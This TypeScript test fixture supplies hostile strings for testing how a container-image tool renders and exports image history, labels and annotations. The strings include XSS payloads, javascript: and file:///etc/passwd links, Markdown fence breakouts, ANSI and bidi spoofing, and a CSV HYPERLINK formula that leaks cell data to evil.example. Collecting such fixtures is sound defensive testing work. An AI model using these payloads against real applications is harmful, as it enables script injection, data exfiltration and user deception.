/**
 * Attacker-controlled text for the display and export rows (reliability.md §5 rows 20–21): what an
 * image's history, labels and annotations may contain.
 *
 * `SINGLE_LINE` payloads have no line break; `MULTI_LINE` ones try to break out of a line-based
 * format (a Markdown fence, a list item).
 */
export const SINGLE_LINE = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)>',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  style: '<style>body{background:url(https://tracker.example/css)}</style>',
  attribute: '" onmouseover="alert(1)" x="',
  markdownLink: '[click me](javascript:alert(1))',
  markdownImage: '![](https://tracker.example/pixel.png)',
  autolink: '<https://tracker.example/auto>',
  backticks: '``echo `id` ``',
  pipes: '| col | col |',
  csvFormula: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  entity: '&lt;script&gt; &amp;',
  ansi: '\u001b[2J\u001b[31mred',
  bidi: 'evil\u202egpj.exe',
  zeroWidth: 'zero\u200bwidth',
} as const;

export const MULTI_LINE = {
  closesFence: 'echo hi\n```\n<script>alert(1)</script>\n```dockerfile',
  newHeading: 'x\n## injected heading',
} as const;

/** Every single-line payload, as a list. */
export const SINGLE_LINE_PAYLOADS: readonly string[] = Object.values(SINGLE_LINE);

/** `org.opencontainers.image.source` values that must never become a clickable link. */
export const HOSTILE_LINKS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'file:///etc/passwd',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'http://plain-http.example/',
  'https://user:pass@github.example/',
  'smb://evil.example/share',
];
